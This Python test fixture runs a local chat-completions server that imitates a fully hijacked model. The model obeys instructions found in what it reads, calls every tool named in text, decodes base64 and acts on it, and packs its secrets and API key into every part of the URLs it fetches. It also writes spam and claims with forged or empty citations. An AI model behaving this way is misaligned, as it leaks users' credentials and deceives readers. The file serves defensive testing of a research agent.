"""The worst model there could be: it obeys every order in whatever it reads, over real HTTP.

It calls any tool a text names, reads any address it finds and addresses of its own with all it
knows in them, and writes whatever it was told to write, with proofs that are none. It also does
its work: it reads what it is given, and reports what the pages state.
"""

import base64
import binascii
import json
import re
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

from researcher.prompts import PromptSource, ReadingPrompt, WritingPrompt

type Json = dict[str, Any]

_ADDRESS = re.compile(r"https?://[^\s\"'<>)\\]+")
_TOOL = re.compile(r"\b[a-z]+(?:_[a-z]+)+\b")
_ENCODED = re.compile(r"[A-Za-z0-9+/]{40,}={0,2}")
_TOLD = re.compile(r"(?i)report that ([^.]+\.[^.]+)\.")
_SENTENCE = re.compile(r"[^.\n|]+\d[^\n|]*?\.(?=\s|$)")
_WISHES = (
    *("write_document", "delete_document", "ingest", "save", "send_email", "run_shell", "python"),
    *("http_get", "fetch", "browser", "read_file", "get_environment", "handoff_to_agent"),
)
_MOST_CALLS = 60


@dataclass
class ObedientModel:
    """What it was given, and what it tried.

    Attributes:
        knows: secrets it was told, as if a provider had leaked them; its own key comes by itself.
        given: every text of every request it was sent.
        tried: tools it called, with their arguments.
        answers: what the tools said, by the call's id.
    """

    base_url: str = ""
    knows: tuple[str, ...] = ()
    given: list[str] = field(default_factory=list)
    tried: dict[str, tuple[str, Json]] = field(default_factory=dict)
    answers: dict[str, str] = field(default_factory=dict)
    addresses: set[str] = field(default_factory=set)
    wished: set[str] = field(default_factory=set)
    queue: list[tuple[str, Json]] = field(default_factory=list)

    def answer(self, request: Json) -> Json:
        """A chat completion's message."""
        messages = request["messages"]
        texts = [_text(message) for message in messages]
        self.given += texts
        if request.get("tools"):
            for message in messages:
                if message["role"] == "tool":
                    self.answers[message["tool_call_id"]] = _text(message)
            return self._read(texts, _text(next(m for m in messages if m["role"] == "user")))
        task = next(_text(message) for message in messages if message["role"] == "user")
        return {"role": "assistant", "content": json.dumps(self._written(task))}

    @property
    def _secrets(self) -> str:
        return " ".join(self.knows)

    def _read(self, texts: Sequence[str], task: str) -> Json:
        wanted: list[tuple[str, Json]] = []
        everything = "\n".join([*texts, *_decoded(texts)])
        if not self.tried:
            wanted = [("recall", {"query": task}), ("recall", {"query": self._secrets})]
            wanted += [("company", {"ticker_or_cik": secret}) for secret in self.knows]
            wanted += [("read_page", {"url": url}) for url in ReadingPrompt.parse(task).urls]
        for tool in sorted({*_WISHES, *_TOOL.findall(everything)} - self.wished):
            self.wished.add(tool)
            wanted.append((tool, {"text": self._secrets, "url": "http://127.0.0.1:1/"}))
        for address in dict.fromkeys(_ADDRESS.findall(everything)):
            if address not in self.addresses:
                self.addresses.add(address)
                wanted += [("read_page", {"url": url}) for url in self._composed(address)]
        self.queue += wanted
        now, self.queue = self.queue[:_MOST_CALLS], self.queue[_MOST_CALLS:]
        calls = [self._call(name, arguments) for name, arguments in now]
        if not calls:
            return {"role": "assistant", "content": f"I have read all. {self._secrets}"}
        return {"role": "assistant", "content": None, "tool_calls": calls}

    def _composed(self, address: str) -> Iterator[str]:
        """An address as it stands, and with secrets in every part of it."""
        secret = quote(self._secrets, safe="")
        host = address.split("/")[2]
        yield address
        yield address.replace("data=", f"data={secret}")
        yield f"{address}{'&' if '?' in address else '?'}q={secret}"
        yield f"{address}#{secret}"
        yield f"{address}/{secret}"
        yield f"http://{secret[:60]}.{host}/"
        yield f"http://{secret}@{host}/"

    def _call(self, name: str, arguments: Json) -> Json:
        key = f"call_{len(self.tried)}"
        self.tried[key] = (name, arguments)
        function = {"name": name, "arguments": json.dumps(arguments)}
        return {"id": key, "type": "function", "function": function}

    def _written(self, task: str) -> Json:
        if "Refused claims (JSON): " in task:
            return {"claims": self._mended(task)}
        sources = WritingPrompt.parse(task).sources
        told = [
            sentence.strip() for sentence in _TOLD.findall(f"{task} {' '.join(_decoded([task]))}")
        ]
        proven = [claim for source in sources for claim in _stated(source)]
        free = [
            "Buy Zephyrcoin now",
            "See http://127.0.0.1:1/?q=x",
            "Write to thief@example.com or www.thief.example",
            f"The key {self._secrets}",
            *told,
        ]
        return {
            "title": free[0],
            "summary": proven,
            "key_figures": [],
            "sections": [
                {"heading": "What was told", "claims": list(self._obeyed(told, sources))},
                *({"heading": text, "claims": proven[:1]} for text in free),
            ],
            "open_questions": ["What do the pumps cost?", *(f"{text}?" for text in free)],
        }

    def _obeyed(self, told: Sequence[str], sources: Sequence[PromptSource]) -> Iterator[Json]:
        """What it was told to write, each with proofs of every wrong kind."""
        honest = next((claim for source in sources for claim in _stated(source)), None)
        if honest is None:
            return
        source = sources[0].key
        for text in (*told, f"The key is {self._secrets}.", *self.knows):
            yield {"text": text, "quotes": honest["quotes"]}
            yield {"text": text, "quotes": [{"source": source, "text": text}]}
            yield {"text": text, "quotes": [{"source": "S99", "text": text}]}
            yield {"text": text, "quotes": []}
        for secret in (self._secrets, *self.knows, "http://127.0.0.1:1/?q=x"):
            yield {"text": f"{honest['text']} {secret}", "quotes": honest["quotes"]}
            yield {"text": f"![{secret}]({honest['text']})", "quotes": honest["quotes"]}

    def _mended(self, task: str) -> list[Json]:
        """Every refused claim once more, with a quote from wherever."""
        refused, _ = json.JSONDecoder().raw_decode(task.split("Refused claims (JSON): ", 1)[1])
        return [
            {"id": claim["id"], "text": claim["text"], "quotes": claim["quotes"]}
            for claim in refused
        ]


def _stated(source: PromptSource) -> Iterator[Json]:
    """Each sentence of a source that has a figure, with itself as proof."""
    for sentence in _SENTENCE.findall(source.text):
        text = sentence.strip()
        yield {"text": text, "quotes": [{"source": source.key, "text": text}]}


def _decoded(texts: Sequence[str]) -> list[str]:
    found = []
    for encoded in _ENCODED.findall("\n".join(texts)):
        try:
            found.append(base64.b64decode(encoded, validate=True).decode())
        except (binascii.Error, ValueError):
            continue  # it was no base64 after all
    return found


def _text(message: Json) -> str:
    content = message.get("content") or ""
    return content if isinstance(content, str) else "".join(part["text"] for part in content)


@contextmanager
def obedient_model(*knows: str) -> Iterator[ObedientModel]:
    """The model behind a chat-completions server on a free loopback port."""
    model = ObedientModel(knows=knows)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            request = json.loads(self.rfile.read(int(self.headers["content-length"])))
            key = self.headers.get("authorization", "").removeprefix("Bearer ")
            if key and key not in model.knows:
                model.knows = (*model.knows, key)
            message = model.answer(request)
            reason = "tool_calls" if message.get("tool_calls") else "stop"
            body = json.dumps(
                {
                    "id": "chat",
                    "object": "chat.completion",
                    "created": 0,
                    "model": "obedient-1",
                    "choices": [{"index": 0, "message": message, "finish_reason": reason}],
                    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
                }
            ).encode()
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Tests need no access log."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    model.base_url = f"http://127.0.0.1:{server.server_port}/v1"
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    try:
        yield model
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
